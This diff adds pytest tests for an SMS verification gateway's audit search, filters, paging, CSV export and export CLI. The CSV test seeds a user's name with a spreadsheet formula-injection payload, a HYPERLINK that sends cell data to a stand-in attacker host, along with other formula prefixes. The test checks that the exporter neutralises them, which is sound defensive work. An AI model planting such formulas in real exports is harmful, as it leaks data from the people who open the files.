@@ -1,0 +1,168 @@
+"""Audit search, CSV export and the export CLI, over records the gateway's own scripts wrote."""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+
+import pytest
+
+from gateway import audit, verifications
+from tests.conftest import TEST_DB, gateway_env
+from tests.stack import ROOT
+
+ANNA, BOB = "+48600100200", "+48600100201"
+CODE = "424242"
+
+
+def ended(app, client, to: str, how: str, **body) -> str:  # type: ignore[no-untyped-def]
+    """Start an SMS verification and end it: approved, denied (max attempts) or canceled."""
+    v = client.post("/v1/verifications", json={"to": to, "channel": "sms", **body}).get_json()
+    svc = app.extensions["gateway"]
+    assert verifications.record_code(svc, verifications.get(svc, v["id"]), 1, CODE, False)
+    if how == "approved":
+        assert client.post(f"/v1/verifications/{v['id']}/check", json={"code": CODE}).get_json()["valid"]
+    elif how == "denied":
+        for _ in range(5):
+            client.post(f"/v1/verifications/{v['id']}/check", json={"code": "000000"})
+    else:
+        client.post(f"/v1/verifications/{v['id']}/cancel")
+    return v["id"]  # type: ignore[no-any-return]
+
+
+@pytest.fixture
+def three(app, client):  # type: ignore[no-untyped-def]
+    """Anna approved, then Bob denied, then Anna canceled (newest)."""
+    first = ended(app, client, ANNA, "approved", user_id="anna", client_ip="192.0.2.7",
+                  user={"first_name": "Anna", "last_name": "Nowak", "email": "anna@example.com"})
+    second = ended(app, client, BOB, "denied", user_id="bob")
+    third = ended(app, client, ANNA, "canceled", user_id="anna")
+    return first, second, third
+
+
+def test_search_answers_the_seeds_fields_newest_first(admin, three) -> None:
+    r = admin.get("/v1/audit")
+    assert r.status_code == 200
+    body = r.get_json()
+    assert [x["verification_id"] for x in body["records"]] == list(reversed(three))
+    assert body["next_cursor"] is None
+    approved = body["records"][2]
+    assert approved["user_id"] == "anna" and approved["first_name"] == "Anna" and approved["last_name"] == "Nowak"
+    assert approved["email"] == "anna@example.com" and approved["phone_number"] == ANNA
+    assert approved["mode"] == "sms" and approved["result"] == "approved" and approved["reason"] is None
+    assert approved["client_ip"] == "192.0.2.7" and approved["server_name"] and "device_token" in approved
+    assert approved["created_at"].endswith("Z") and approved["ended_at"] >= approved["created_at"]
+    assert approved["attempts"][0]["channel"] == "sms" and approved["attempts"][0]["started_at"].endswith("Z")
+    denied = body["records"][1]
+    assert (denied["result"], denied["status"], denied["reason"]) == ("denied", "denied", "max_attempts")
+    assert CODE not in r.get_data(as_text=True)
+
+
+def test_filters(admin, three) -> None:
+    def ids(query: str) -> list[str]:
+        r = admin.get(f"/v1/audit?{query}")
+        assert r.status_code == 200, r.get_json()
+        return [x["verification_id"] for x in r.get_json()["records"]]
+
+    first, second, third = three
+    assert ids("user_id=anna") == [third, first]
+    assert ids("to=%2B48600100201") == [second]
+    assert ids("to=+48600100201") == [second]  # an unencoded + arrives as a space
+    assert ids("status=denied") == [second]
+    assert ids("status=approved&user_id=anna") == [first]
+    assert ids("channel=call") == []
+    assert ids("channel=sms&limit=1") == [third]
+    assert ids("since=2000-01-01T00:00:00Z&until=2999-01-01T00:00:00%2B02:00") == [third, second, first]
+    assert ids("until=2000-01-01T00:00:00Z") == []
+
+
+def _add(redis_db, ms: int, n: int) -> str:  # type: ignore[no-untyped-def]
+    """An audit entry at a given stream time, shaped like the finish script's."""
+    fields = {"verification_id": f"vf_{n}", "user_id": "u", "phone_number": ANNA, "channel": "sms", "mode": "sms",
+              "result": "approved", "status": "approved", "reason": "", "created_at": str(ms / 1000),
+              "ended_at": str(ms / 1000), "channels": '["sms"]', "attempts": "{}", "server_name": "t"}
+    return redis_db.xadd("gw:audit", fields, id=f"{ms}-0").decode()  # type: ignore[no-any-return]
+
+
+def test_pages_follow_the_cursor_and_the_time_range_is_inclusive(admin, redis_db) -> None:
+    base = 1_790_000_000_000
+    for n in range(7):
+        _add(redis_db, base + n * 1000, n)
+    seen, cursor = [], None
+    while True:
+        r = admin.get("/v1/audit?limit=3" + (f"&cursor={cursor}" if cursor else ""))
+        body = r.get_json()
+        seen.append([x["verification_id"] for x in body["records"]])
+        cursor = body["next_cursor"]
+        if cursor is None:
+            break
+    assert seen == [["vf_6", "vf_5", "vf_4"], ["vf_3", "vf_2", "vf_1"], ["vf_0"]]
+    since = audit.iso(base / 1000 + 2)
+    until = audit.iso(base / 1000 + 4)
+    r = admin.get(f"/v1/audit?since={since}&until={until}")
+    assert [x["verification_id"] for x in r.get_json()["records"]] == ["vf_4", "vf_3", "vf_2"]
+
+
+@pytest.mark.parametrize("query, field", [
+    ("since=yesterday", "since"), ("until=2026-11-25", "until"), ("since=2026-11-25T10:00:00", "since"),
+    ("status=pending", "status"), ("status=lost", "status"), ("channel=fax", "channel"),
+    ("limit=0", "limit"), ("limit=501", "limit"), ("limit=ten", "limit"), ("cursor=abc", "cursor"),
+    ("to=600100200", "to"), ("user_id=a%20b", "user_id"),
+    ("since=2026-11-26T00:00:00Z&until=2026-11-25T00:00:00Z", "since"),
+])
+def test_bad_filters_are_refused_naming_the_field(admin, query, field) -> None:
+    for path in ("/v1/audit", "/v1/audit.csv"):
+        r = admin.get(f"{path}?{query}")
+        assert r.status_code == 400, (path, query)
+        error = r.get_json()["error"]
+        assert error["code"] == "invalid_request" and f"'{field}'" in error["message"]
+
+
+def test_limit_500_is_allowed(admin) -> None:
+    assert admin.get("/v1/audit?limit=500").status_code == 200
+
+
+def test_verify_keys_are_forbidden(client) -> None:
+    for path in ("/v1/audit", "/v1/audit.csv"):
+        r = client.get(path)
+        assert r.status_code == 403 and r.get_json()["error"]["code"] == "forbidden"
+
+
+def test_csv_streams_a_header_and_neutralises_formulas(app, admin, client) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    vid = ended(app, client, ANNA, "approved", user_id="carol",
+                user={"first_name": formula, "last_name": "@SUM(1+1)", "email": "-x@example.com"})
+    r = admin.get("/v1/audit.csv?user_id=carol")
+    assert r.status_code == 200 and r.mimetype == "text/csv" and r.is_streamed
+    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True))))
+    assert rows[0] == list(audit.FIELDS)
+    row = dict(zip(rows[0], rows[1]))
+    assert len(rows) == 2 and row["verification_id"] == vid
+    assert row["first_name"] == "'" + formula and row["last_name"] == "'@SUM(1+1)"
+    assert row["email"] == "'-x@example.com" and row["phone_number"] == "'" + ANNA
+    assert "sms delivered" not in row["attempts"] and " sms queued" in row["attempts"]
+    for cell in (c for line in rows[1:] for c in line):
+        assert not cell.startswith(audit.FORMULA_START)
+
+
+def _cli(*args: str) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, **gateway_env(TEST_DB)}
+    return subprocess.run([sys.executable, "-m", "gateway", "audit", "export", *args], cwd=ROOT, env=env,
+                          capture_output=True, text=True, timeout=60)
+
+
+def test_export_cli_writes_csv_and_json_lines(three) -> None:
+    span = ("--since", "2000-01-01T00:00:00Z", "--until", "2999-01-01T00:00:00Z")
+    out = _cli(*span, "--format", "jsonl")
+    assert out.returncode == 0, out.stderr
+    records = [json.loads(line) for line in out.stdout.splitlines()]
+    assert [r["verification_id"] for r in records] == list(reversed(three))
+    out = _cli(*span, "--user-id", "bob")
+    rows = list(csv.reader(io.StringIO(out.stdout)))
+    assert out.returncode == 0 and rows[0] == list(audit.FIELDS) and len(rows) == 2
+    assert dict(zip(rows[0], rows[1]))["reason"] == "max_attempts"
+    bad = _cli("--since", "last week", "--until", "2999-01-01T00:00:00Z")
+    assert bad.returncode == 2 and "'since'" in bad.stderr and bad.stdout == ""
